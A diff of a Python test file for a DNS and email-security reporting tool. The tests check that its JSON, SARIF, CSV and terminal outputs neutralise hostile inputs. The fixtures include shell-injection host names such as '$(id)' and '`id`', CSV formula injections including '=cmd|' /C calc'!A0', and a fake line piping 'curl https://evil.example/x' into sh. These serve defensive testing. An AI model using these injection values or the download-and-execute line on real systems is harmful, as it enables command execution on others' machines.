@@ -27,11 +27,15 @@ from souverain.report import terminal
 
 DOMAIN = "inject.test"
 # names as the decoder gives them -> the argument dig needs (a leading - + @ escaped as \DDD)
-DIG_NAME = {"+sum.inject.test": r"\043sum.inject.test", "-ns.inject.test": r"\045ns.inject.test",
+DIG_NAME = {"+sum.inject-spf.test": r"\043sum.inject-spf.test", "-ns.inject.test": r"\045ns.inject.test",
             "@ns.inject.test": r"\064ns.inject.test"}
-HOSTILE = {"a&id&b.inject.test", "s;id;x.inject.test", "$(id).inject.test", "`id`.inject.test", "p|id.inject.test",
-           "q'x\"y.inject.test", "=1+2.inject.test", r"\043sum.inject.test", "ns;id;x.inject.test",
-           r"new\010line.inject.test", r"sp\032ace.inject.test", r"\045ns.inject.test", r"\064ns.inject.test"}
+# MX and NS hosts under inject.test; SPF include targets under inject-spf.test (third-party senders:
+# the domain's own names are not reported as senders)
+# (the MX hosts `id` and p|id have no address: no dependency cites them, JSON still lists them)
+HOSTILE = {"a&id&b.inject.test", "ns;id;x.inject.test",
+           r"new\010line.inject.test", r"sp\032ace.inject.test", r"\045ns.inject.test", r"\064ns.inject.test",
+           "a&id&b.inject-spf.test", "s;id;x.inject-spf.test", "$(id).inject-spf.test", "`id`.inject-spf.test",
+           "p|id.inject-spf.test", "q'x\"y.inject-spf.test", "=1+2.inject-spf.test", r"\043sum.inject-spf.test"}
 FAKE_LINES = ("EXPOSED: fake line", "$ curl https://evil.example", "FAKE")
 CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
 SHELLS = [shell for shell in ("sh", "bash", "zsh") if shutil.which(shell)]
@@ -100,7 +104,9 @@ def _split_on(tokens: list[str], separator: str) -> list[list[str]]:
 def test_every_format_gives_commands_that_split_into_the_intended_arguments(outputs, intended, fmt):
     found = {tuple(shlex.split(command)) for command in commands(fmt, outputs[fmt])}
     assert found == intended[{"json": "all", "sarif": "sarif"}.get(fmt, "cited")]
-    assert HOSTILE <= {argv[4] for argv in found}, sorted(HOSTILE - {argv[4] for argv in found})
+    # SARIF lists exposed and unknown dependencies only: the unknown third-party senders there
+    hostile = {h for h in HOSTILE if h.endswith(".inject-spf.test")} if fmt == "sarif" else HOSTILE
+    assert hostile <= {argv[4] for argv in found}, sorted(hostile - {argv[4] for argv in found})
 
 
 @pytest.mark.skipif(not SHELLS, reason="no POSIX shell")
@@ -126,7 +132,7 @@ def test_csv_rows_are_one_line_each_and_formulas_are_neutralised(outputs):
     assert not [c for c in cells if CONTROL.search(c)]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
     subjects = {row["subject"] for row in csv.DictReader(io.StringIO(text))}
-    assert {"'=1+2.inject.test", "'+sum.inject.test", "'-ns.inject.test", "'@ns.inject.test"} <= subjects
+    assert {"'=1+2.inject-spf.test", "'+sum.inject-spf.test", "'-ns.inject.test", "'@ns.inject.test"} <= subjects
     token = next(s for s in subjects if s.startswith("google-site-verification="))
     assert token == r"google-site-verification=tok\010EXPOSED: fake line,=cmd|' /C calc'!A0\010$ curl https://evil.example/x | sh"
 
